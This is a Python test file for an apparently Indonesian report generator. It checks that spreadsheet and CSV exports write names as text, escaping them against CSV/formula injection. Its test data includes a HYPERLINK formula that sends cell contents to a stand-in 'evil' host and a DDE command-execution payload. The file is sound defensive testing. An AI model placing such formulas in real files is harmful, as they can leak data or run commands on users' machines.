"""Spreadsheets and CSVs: text a contributor wrote is written as text, never as a formula.

Names such as ``=HYPERLINK("http://evil/?"&A1,"klik")`` or ``+62 812`` end up in the
published laporan.xlsx, the CSVs and the ``excel ekspor`` workbook; each must arrive
there as text (OWASP CSV injection), and the Excel round trip must stay byte-identical.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook

from generator import opendata
from generator.excel import cmd_ekspor, cmd_impor, default_target, plan_import
from tests.conftest import edit
from tests.test_excel import ALPHA, snapshot

HYPERLINK = '=HYPERLINK("http://evil/?"&A1,"klik")'
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# A carriage return cannot reach a name any more (the loader refuses control characters other
# than tab and newline), so the sixth name is a DDE payload instead; csv_text still escapes CR.
HOSTILE = ["=1+1", "+62 812", "-", "@x", "\tx", "=cmd|' /C calc'!A0", HYPERLINK, "#N/A"]


def _quoted(text: str) -> str:
    """``text`` as a YAML double-quoted scalar."""
    escaped = text.replace("\\", "\\\\").replace('"', '\\"')
    return '"' + escaped.replace("\t", "\\t").replace("\r", "\\r") + '"'


def make_hostile(data: Path) -> None:
    """Give program, activity, indicator and unit names the hostile texts."""
    alpha = data / "contoh" / "alpha"
    program = alpha / "2024" / "program.yaml"
    names = [
        "Administrasi Keuangan Perangkat Daerah",
        "Penyediaan Gaji dan Tunjangan ASN",
        "Jumlah pegawai yang menerima gaji",
        "Penyediaan Administrasi Pelaksanaan Tugas ASN",
        "Laporan administrasi",
        "Perencanaan, Penganggaran, dan Evaluasi Kinerja Perangkat Daerah",
    ]
    for old, new in zip(names, HOSTILE, strict=False):
        edit(program, f"nama: {old}\n", f"nama: {_quoted(new)}\n")
    edit(program, "nama: Dokumen perencanaan,", f"nama: {_quoted(HOSTILE[6])},")
    renstra = alpha / "renstra.yaml"
    edit(renstra, "nama: Indeks gabungan\n", f"nama: {_quoted(HOSTILE[7])}\n")
    edit(alpha / "kecamatan.yaml", "nama: Camat,", f"nama: {_quoted(HYPERLINK)},")


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    import shutil

    from generator.cli import main
    from tests.conftest import MINIMAL

    root = tmp_path_factory.mktemp("hostile")
    shutil.copytree(MINIMAL, root / "data")
    make_hostile(root / "data")
    assert main(["build", str(root / "data"), "--keluaran", str(root / "site")]) == 0
    return root / "site"


def test_published_workbook_holds_hostile_names_as_text(hostile_site: Path) -> None:
    book = load_workbook(hostile_site / "contoh" / "alpha" / "2024" / "data" / "laporan.xlsx")
    found = set()
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                assert cell.data_type != "e", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                    found |= {h for h in HOSTILE if h.strip() and h.strip() in cell.value}
    assert {"=1+1", "@x", HYPERLINK, "#N/A"} <= found


def test_published_csvs_escape_formula_text(hostile_site: Path) -> None:
    csvs = list(hostile_site.rglob("*.csv"))
    assert len(csvs) > 20
    seen_escaped = 0
    for path in csvs:
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"))):
            for cell in row:
                if cell.startswith(FORMULA_START):
                    # only a plain number may start with '-' (or '+': none are written)
                    assert _is_number(cell), (path.name, cell)
                seen_escaped += cell.startswith(("'=", "'@", "'+", "'-"))
    assert seen_escaped >= 2


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return text.lstrip("-").replace(".", "", 1).isdigit()


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+62 812", "'+62 812"),
        ("-", "'-"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Nilai SAKIP", "Nilai SAKIP"),
        ("a=b", "a=b"),
    ],
)
def test_csv_text_follows_owasp(value: str, expected: str) -> None:
    assert opendata.csv_text(value) == expected
    assert opendata.csv_cell(value) == expected


def test_csv_numbers_stay_numbers() -> None:
    from decimal import Decimal

    assert opendata.csv_cell(-5) == "-5"
    assert opendata.csv_cell(Decimal("-2.5")) == "-2.5"
    assert opendata.csv_cell(None) == ""


def test_ekspor_writes_hostile_names_as_string_cells(data_dir: Path, tmp_path: Path) -> None:
    make_hostile(data_dir)
    target = tmp_path / default_target(ALPHA, 2024)
    cmd_ekspor(data_dir, ALPHA, 2024, target)
    book = load_workbook(target)
    hostile = 0
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (ws.title, cell.coordinate, cell.value)
                    hostile += cell.value.startswith(("=", "+", "-", "@", "#"))
    assert hostile >= 5


def test_round_trip_with_hostile_names_is_byte_identical(data_dir: Path, tmp_path: Path) -> None:
    make_hostile(data_dir)
    before = snapshot(data_dir)
    target = tmp_path / default_target(ALPHA, 2024)
    cmd_ekspor(data_dir, ALPHA, 2024, target)
    resaved = load_workbook(target)  # a spreadsheet program saves the file again
    resaved.save(target)
    rencana = plan_import(target, data_dir)
    assert rencana.kosong, rencana.diff
    assert "Tidak ada perubahan" in cmd_impor(target, data_dir, tulis=True)
    assert snapshot(data_dir) == before


def test_control_characters_are_refused_before_any_workbook_is_written(
    data_dir: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A BEL in a name once crashed the build inside openpyxl; the loader now refuses it with
    its place, and the workbook writers still replace what XML cannot hold (defence in depth)."""
    from openpyxl import Workbook

    from generator.cli import main
    from generator.xlsx import put

    program = data_dir / "contoh" / "alpha" / "2024" / "program.yaml"
    edit(program, "nama: Laporan administrasi\n", 'nama: "Laporan\\x07 administrasi"\n')
    assert main(["build", str(data_dir), "--keluaran", str(tmp_path / "site")]) == 1
    assert "program.yaml" in capsys.readouterr().err
    assert not (tmp_path / "site").exists()
    ws = Workbook().active
    assert ws is not None
    assert put(ws, 1, 1, "Laporan\x07 administrasi").value == "Laporan\ufffd administrasi"
